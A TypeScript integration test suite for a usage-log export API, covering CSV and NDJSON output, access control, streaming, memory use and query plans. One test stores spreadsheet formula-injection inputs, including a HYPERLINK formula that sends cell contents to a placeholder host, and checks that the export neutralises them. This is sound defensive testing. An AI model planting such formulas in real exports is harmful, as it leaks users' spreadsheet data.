import { request as httpRequest, type IncomingMessage } from 'node:http';
import { setTimeout as sleep } from 'node:timers/promises';
import { setFlagsFromString } from 'node:v8';
import { runInNewContext } from 'node:vm';
import { findCsvProblem } from '../../src/modules/documents/csv.js';
import { UsageLogsRepository } from '../../src/modules/usage/reports/usage-logs.repository.js';
import { insertUsageLog } from '../fixtures/rows.js';
import { startTestApp, type TestApp, type TestUser } from '../support/app.js';
import { eventually } from '../support/chat-app.js';
import { expectProblem, readAllPages } from '../support/expectations.js';
import { nodesOf, planOf, type PlanNode } from '../support/query-plan.js';
import { sentStatements, type SentStatements } from '../support/statements.js';
import { addCalls } from '../support/usage-rows.js';

setFlagsFromString('--expose-gc');
const collectGarbage = runInNewContext('gc') as () => void;

/** The number of rows of the user with many, and their approximate length. */
const MANY = 60_000;
const ROW_LENGTH = 1_200;
const MEGABYTE = 2 ** 20;

describe('the export of usage', () => {
  let app: TestApp;
  let admin: TestUser;
  let user: TestUser;
  let busy: TestUser;

  beforeAll(async () => {
    app = await startTestApp();
    admin = await app.createUser({ role: 'admin' });
    [user, busy] = [await app.createUser(), await app.createUser()];
    const userIds = [user.id, admin.id];
    await addCalls(app.database, {
      userIds,
      count: 2_600,
      from: '2026-03-01T00:00:00Z',
      to: '2026-03-03T00:00:00Z',
    });
    await app.database.query(
      `insert into usage_logs (user_id, agent_type, model_used, provider, request_timestamp, response_timestamp, metadata)
       select $1, 'chat', 'm', 'p', timestamptz '2026-05-01Z' + i / 3 * interval '1 second', now(),
              jsonb_build_object('n', i, 'padding', repeat('x', ${ROW_LENGTH - 400}))
         from generate_series(1, ${MANY}) i`,
      [busy.id],
    );
    await app.database.query('analyze usage_logs');
  });

  afterAll(() => app.close());

  const exportOf = (path: string, reader: TestUser) => app.request('GET', path, { user: reader });
  const linesOf = (text: string) =>
    text
      .split('\n')
      .slice(0, -1)
      .map((line) => JSON.parse(line) as Record<string, unknown>);

  /** Opens an export and lets it wait: nothing is read before the client reads. */
  const open = (path: string, reader: TestUser): Promise<IncomingMessage> =>
    new Promise((resolve, reject) => {
      httpRequest(`${app.url}${path}`, { headers: reader.headers }, resolve).on('error', reject).end();
    });
  const many = '/api/usage/export?format=ndjson';
  const pagesOf = (verbs: string[]) => verbs.filter((verb) => verb === 'begin').length;

  it.each([
    'to=2026-04-01',
    'to=2026-04-01&status=error&minTotalCost=1',
    'from=2026-03-01T12:00&to=2026-03-02&tz=Europe/Berlin',
    'to=2026-04-01&model=flash',
  ])('has the rows of the logs, oldest first: %s', async (query) => {
    for (const [path, reader] of [
      ['/api/usage', user],
      ['/api/usage', admin],
      ['/api/admin/usage', admin],
    ] as const) {
      const pages = await readAllPages(app, reader, `${path}/logs?limit=100&sort=requestTimestamp&${query}`);
      const logs = pages.flat() as Array<Record<string, unknown>>;
      expect(logs.length).toBeGreaterThan(10);
      const lines = await exportOf(`${path}/export?format=ndjson&${query}`, reader);
      expect(lines.status).toBe(200);
      expect(lines.headers.get('content-type')).toBe('application/x-ndjson; charset=utf-8');
      expect(lines.headers.get('content-disposition')).toMatch(
        /^attachment; filename="usage-\d{4}-\d\d-\d\d\.ndjson"/,
      );
      expect(linesOf(lines.text)).toEqual(logs);

      const csv = await exportOf(`${path}/export?${query}`, reader);
      expect(csv.headers.get('content-type')).toBe('text/csv; charset=utf-8; header=present');
      expect(csv.headers.get('content-disposition')).toMatch(
        /^attachment; filename="usage-\d{4}-\d\d-\d\d\.csv"/,
      );
      expect(findCsvProblem(csv.text)).toBeUndefined();
      const [header, ...rows] = rowsOf(csv.text);
      expect(header).toEqual(Object.keys(logs[0]!));
      expect(rows).toEqual(
        logs.map((log) => Object.entries(log).map(([name, value]) => cellOf(name, value))),
      );
    }
  });

  it('of all users has the rows of all users; a user gets only their own', async () => {
    const everybody = linesOf(
      (await exportOf('/api/admin/usage/export?format=ndjson&to=2026-04-01', admin)).text,
    );
    expect(everybody).toHaveLength(2_600);
    const theirs = linesOf(
      (await exportOf(`/api/admin/usage/export?format=ndjson&userId=${user.id}`, admin)).text,
    );
    expect(theirs).toEqual(everybody.filter(({ userId }) => userId === user.id));
    const newcomer = await app.createUser();
    expect((await exportOf('/api/usage/export?format=ndjson', newcomer)).text).toBe('');
    expect((await exportOf('/api/usage/export', newcomer)).text).toMatch(/^id,userId,.*,metadata\r\n$/);
  });

  it('does not let a spreadsheet run its content', async () => {
    const target = await app.createUser();
    const models = [
      '=1+1',
      '+1',
      '-1',
      '@SUM(A1)',
      '\tx',
      '\rx',
      '=HYPERLINK("http://x/?"&A1,"y")',
      'a,"b"\r\nc',
      'ünï🌱',
    ];
    for (const [index, model] of models.entries()) {
      await insertUsageLog(app.database, target.id, {
        model_used: model,
        provider: `@${index}`,
        request_timestamp: new Date(Date.UTC(2026, 0, 1, 0, 0, index)).toISOString(),
        metadata: { '=cmd': '=1+1' },
      });
    }
    const { text } = await exportOf('/api/usage/export', target);
    expect(findCsvProblem(text)).toBeUndefined();
    const rows = rowsOf(text).slice(1);
    expect(rows.map((row) => row[4])).toEqual(
      models.map((model, index) => (index < 7 ? `'${model}` : model)),
    );
    expect(rows.map((row) => row[5])).toEqual(models.map((_, index) => `'@${index}`));
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(rows[0]!.at(-1)).toBe('{"=cmd":"=1+1"}');
    const lines = linesOf((await exportOf('/api/usage/export?format=ndjson', target)).text);
    expect(lines.map(({ modelUsed }) => modelUsed)).toEqual(models);
  });

  it('ends, although new calls are added all the time', async () => {
    const target = await app.createUser();
    await insertUsageLog(app.database, target.id, {
      request_timestamp: new Date(Date.now() + 3_600_000).toISOString(),
    });
    const id = await insertUsageLog(app.database, target.id);
    const lines = linesOf((await exportOf('/api/usage/export?format=ndjson&to=2999-01-01', target)).text);
    expect(lines.map((line) => line['id'])).toEqual([id]);
  });

  it('reads no further than the client, and holds no connection for it', async () => {
    let response: IncomingMessage | undefined;
    const waiting = await sentStatements(async (sent) => {
      response = await open(many, busy);
      await untilSettled(sent);
    });
    expect(pagesOf(waiting.verbs)).toBeGreaterThan(0);
    expect(pagesOf(waiting.verbs)).toBeLessThan(25);
    const connections = await app.database.query(
      `select state from pg_stat_activity
        where datname = current_database() and pid <> pg_backend_pid() and backend_type = 'client backend'`,
    );
    expect(connections.length).toBeGreaterThan(0);
    for (const { state } of connections) expect(state).toBe('idle');
    // It continues where it was.
    let lines = 0;
    let last = '';
    for await (const chunk of response!.setEncoding('utf8') as AsyncIterable<string>) {
      lines += chunk.split('\n').length - 1;
      last = (last + chunk).slice(-2 * ROW_LENGTH);
    }
    expect(lines).toBe(MANY);
    const [{ n }] = [
      (JSON.parse(last.trimEnd().split('\n').at(-1)!) as { metadata: { n: number } }).metadata,
    ];
    expect(MANY - n).toBeLessThan(3);
  });

  it('ends when the client disconnects', async () => {
    const sent = await sentStatements(async (soFar) => {
      const response = await open(many, busy);
      await new Promise((resolve) => response.once('readable', resolve));
      response.destroy();
      await untilSettled(soFar);
    });
    expect(pagesOf(sent.verbs)).toBeGreaterThan(0);
    expect(pagesOf(sent.verbs)).toBeLessThan(25);
  });

  it('takes as much memory for many rows as for few', async () => {
    const used = () => {
      collectGarbage();
      const { heapUsed, external } = process.memoryUsage();
      return heapUsed + external;
    };
    const before = used();
    let peak = 0;
    let bytes = 0;
    let next = 0;
    const response = await open('/api/admin/usage/export?format=csv', admin);
    for await (const chunk of response as AsyncIterable<Buffer>) {
      bytes += chunk.length;
      if (bytes < next) continue;
      next = bytes + 16 * MEGABYTE;
      peak = Math.max(peak, used() - before);
    }
    expect(bytes).toBeGreaterThan(50 * MEGABYTE);
    expect(peak).toBeLessThan(20 * MEGABYTE);
  });

  it('is interrupted when an administrator loses the role', async () => {
    const former = await app.createUser({ role: 'admin' });
    const response = await open('/api/admin/usage/export?format=ndjson', former);
    await new Promise((resolve) => response.once('readable', resolve));
    await app.database.query(
      `update auth.users set raw_user_meta_data = raw_user_meta_data || '{"role": "user"}' where id = $1`,
      [former.id],
    );
    await eventually(async () => (await exportOf('/api/admin/usage/projection', former)).status === 403);
    const rest = async () => {
      for await (const _ of response);
    };
    await expect(rest()).rejects.toThrow();
  });

  it('responds to HEAD without reading anything', async () => {
    const sent = await sentStatements(async () => {
      const response = await app.request('HEAD', many, { user: busy });
      expect(response.status).toBe(200);
      expect(response.headers.get('content-disposition')).toMatch(/^attachment/);
      await sleep(50);
    });
    expect(pagesOf(sent.verbs)).toBe(0);
  });

  it('reads each page along an index', async () => {
    const plans: PlanNode[] = [];
    const statements = {
      query: async <T>(text: string, parameters?: unknown[]) => {
        plans.push(await planOf(app.database, text, parameters, { isRun: false }));
        return [] as T;
      },
    };
    const after = { value: '2026-05-01T05:00:00.000Z', id: busy.id };
    const order = { field: 'requestTimestamp', isDescending: false } as const;
    for (const filter of [{ userId: busy.id, to: new Date() }, { to: new Date() }]) {
      for (const place of [undefined, after]) {
        await new UsageLogsRepository().findPage(statements, filter, order, { after: place, limit: 1_000 });
      }
    }
    expect(plans).toHaveLength(4);
    for (const plan of plans) {
      const nodes = nodesOf(plan);
      const reads = nodes.filter((node) => node['Relation Name'] === 'usage_logs');
      expect(reads.map((node) => node['Node Type'])).toEqual(['Index Scan']);
      // The few running calls are sorted, the rows are not.
      const sorts = nodes.filter((node) => node['Node Type'] === 'Sort');
      expect(sorts.flatMap(nodesOf).map((node) => node['Relation Name'])).not.toContain('usage_logs');
    }
  });

  it.each([
    ['format=xlsx', 'format'],
    ['sort=totalCost', 'sort'],
    ['limit=10', 'limit'],
    ['cursor=x', 'cursor'],
    ['from=2026-03-02&to=2026-03-01', 'to'],
    ['status=ok', 'status'],
    ['userId=x', 'userId'],
  ])('refuses ?%s', async (query, path) => {
    const response = await exportOf(`/api/admin/usage/export?${query}`, admin);
    expectProblem(response, 400, 'validation_failed');
    expect(response.body.errors.map((error: { path: string }) => error.path)).toEqual([path]);
  });

  /** Waits until the application requests no more pages. */
  async function untilSettled({ verbs }: SentStatements): Promise<void> {
    for (let pages = -1; pages !== pagesOf(verbs) || pages === 0; await sleep(400)) pages = pagesOf(verbs);
  }
});

/** How a field of a log appears in CSV. */
function cellOf(name: string, value: unknown): string {
  if (value === null) return '';
  if (name.endsWith('Cost')) return (value as number).toFixed(6);
  return typeof value === 'string' ? value : JSON.stringify(value);
}

/** The cells of valid CSV. */
function rowsOf(text: string): string[][] {
  const rows: string[][] = [[]];
  for (const [, quoted, plain, end] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/g)) {
    rows.at(-1)!.push(quoted?.replaceAll('""', '"') ?? plain ?? '');
    if (end === '\r\n') rows.push([]);
  }
  return rows.slice(0, -1);
}
